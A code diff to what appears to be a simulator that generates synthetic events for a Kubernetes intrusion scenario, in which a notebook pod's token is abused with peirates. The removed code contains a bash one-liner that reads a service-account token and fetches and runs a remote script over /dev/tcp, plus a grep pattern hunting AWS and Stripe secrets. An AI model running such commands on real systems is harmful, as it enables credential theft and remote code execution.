@@ -1,35 +1,22 @@
-import { type ApiCall, type Client, callApi, type World } from '../api.ts'
-import { podUser } from '../audit-record.ts'
-import type { Pod } from '../cluster.ts'
-import { execIntoPod } from '../control-plane.ts'
+import { type ApiCall, callApi, type World } from '../api.ts'
+import type { Pod } from '../cluster-model.ts'
 import type { Process } from '../processes.ts'
-import { connect, end, read, run, start, startExeced, tokenPath } from '../runtime.ts'
-import { SECOND_US } from '../timeline.ts'
+import { connect, end, read, run, start, tokenPath } from '../runtime.ts'
+import { MS_US, SECOND_US } from '../timeline.ts'
 import { curl } from './attack-foothold.ts'
-import { API_SERVER, GITHUB_IP, STAGING_IP } from './indicators.ts'
-import { at, attackStep, type Cast, consequenceOf } from './story.ts'
+import { enterCart, tryCartToken } from './attack-pivot.ts'
+import { API_SERVER, GITHUB_IP } from './indicators.ts'
+import { EMBEDDED_KUBECTL, embeddedKubectl, MOUNT, tokenClient } from './stolen-token.ts'
+import { at, attackStep, type Cast } from './story.ts'
 
-/** Step 8: the service account's token, enumeration with curl and peirates, secrets, and the way into another pod. */
+/** Step 8: the service account's token, enumeration with curl and peirates, secrets. */
 
-const MS_US = 1000
-const MOUNT = '/var/run/secrets/kubernetes.io/serviceaccount'
 const BEARER = ['-H', 'Authorization: Bearer *****']
 
 /** User agents: of Debian's curl, of Go's HTTP client as peirates uses it, and of the kubectl that peirates carries in itself. */
 const CURL = 'curl/8.5.0'
-const GO_HTTP = 'Go-http-client/1.1'
-export const EMBEDDED_KUBECTL = 'kubectl/v0.0.0 (linux/amd64) kubernetes/$Format'
 
-/** The API client that a pod's token makes, used from the notebook pod. */
-export function tokenClient(token: Pod, from: Pod, userAgent: string): Client {
-  return {
-    user: podUser(token),
-    sourceIP: from.ip,
-    userAgent,
-    reason:
-      'RBAC: allowed by ClusterRoleBinding "notebook-spark" of ClusterRole "spark-jobs" to ServiceAccount "notebook/data-science"'
-  }
-}
+const GO_HTTP = 'Go-http-client/1.1'
 
 /** Fetches peirates into a hidden directory. */
 function fetchPeirates(world: World, shell: Process): void {
@@ -149,28 +136,6 @@ function mayI(
   })
 }
 
-/** peirates runs its kubectl: it starts itself again, under the name kubectl. */
-export function embeddedKubectl(
-  world: World,
-  peirates: Process,
-  step: number,
-  when: string,
-  words: readonly string[],
-  lasts_us = 300 * MS_US,
-  failed = false
-): void {
-  const labelled = attackStep(world, step, `kubectl/${when}`)
-  const server = `--server=https://${API_SERVER.ip}:${API_SERVER.port}`
-  const args = [server, `--certificate-authority=${MOUNT}/ca.crt`, '--token=*****', ...words]
-  const process = run(labelled, peirates, at(when), {
-    binary: '/proc/self/exe',
-    args,
-    lasts_us,
-    ...(failed ? { status: 1 } : {})
-  })
-  connect(labelled, process, at(when) + 30 * MS_US, API_SERVER.ip, API_SERVER.port)
-}
-
 interface Listing {
   readonly when: string
   readonly words: readonly string[]
@@ -266,47 +231,6 @@ function runPeirates(world: World, shell: Process, pod: Pod): Process {
     callApi(labelled, at(when) + 90 * MS_US, client, call)
   }
   return peirates
-}
-
-/** Into a pod of the shop: environment, its token, and another script over /dev/tcp, as there is no curl. */
-function enterCart(world: World, peirates: Process, { notebook, cart }: Cast): void {
-  const script = `id; env; cat ${MOUNT}/token; exec 3<>/dev/tcp/${STAGING_IP}/80; echo -e "GET /.bin/.a.i.sh HTTP/1.0\\n" >&3; cat <&3 | bash`
-  const command = ['/bin/bash', '-c', script]
-  embeddedKubectl(world, peirates, 8, '13:10', ['-n', 'shop', 'exec', cart.name, '--', ...command], 5_200 * MS_US)
-  const step = attackStep(world, 8, 'enter-cart')
-  const session = { command, interactive: false, lasts_us: 5 * SECOND_US }
-  const client = tokenClient(notebook, notebook, EMBEDDED_KUBECTL)
-  execIntoPod(step, at('13:10.080'), client, cart, session, consequenceOf(world, 8, 'enter-cart'))
-  const bash = startExeced(step, cart, at('13:10.190'), { binary: '/bin/bash', args: ['-c', script], cwd: '/app' })
-  run(step, bash, at('13:10.210'), { binary: '/usr/bin/id' })
-  run(step, bash, at('13:10.230'), { binary: '/usr/bin/env' })
-  const cat = run(step, bash, at('13:10.250'), { binary: '/usr/bin/cat', args: [`${MOUNT}/token`] })
-  read(step, cat, at('13:10.251'), tokenPath(cart))
-  connect(step, bash, at('13:10.280'), STAGING_IP, 80)
-  run(step, bash, at('13:10.300'), { binary: '/usr/bin/cat', lasts_us: 400 * MS_US })
-  const staged = start(step, bash, at('13:10.302'), { binary: '/usr/bin/bash', cwd: '/app' })
-  run(step, staged, at('13:11'), { binary: '/usr/bin/cat', args: ['/app/config/production.json'] })
-  run(step, staged, at('13:12'), { binary: '/usr/bin/grep', args: ['-rhoE', '(AKIA|sk_live_)[0-9A-Za-z]+', '/app'] })
-  connect(step, staged, at('13:13'), STAGING_IP, 80)
-  end(step, staged, at('13:14.900'))
-  end(step, bash, at('13:14.950'))
-}
-
-/** The stolen token of the cart, used from the notebook: the API server names the cart's pod, the address is the notebook's. */
-function tryCartToken(world: World, peirates: Process, { notebook, cart }: Cast): void {
-  const client = tokenClient(cart, notebook, EMBEDDED_KUBECTL)
-  for (const [when, resource] of [
-    ['14:02', 'secrets'],
-    ['14:08', 'pods']
-  ] as const) {
-    embeddedKubectl(world, peirates, 8, when, ['-n', 'shop', 'get', resource, '-o', 'json'], 200 * MS_US, true)
-    callApi(attackStep(world, 8, `cart-token/${when}`), at(when) + 90 * MS_US, client, {
-      verb: 'list',
-      resource,
-      namespace: 'shop',
-      denied: true
-    })
-  }
 }
 
 /** Step 8 as a whole. @returns the peirates process, which step 12 uses again */
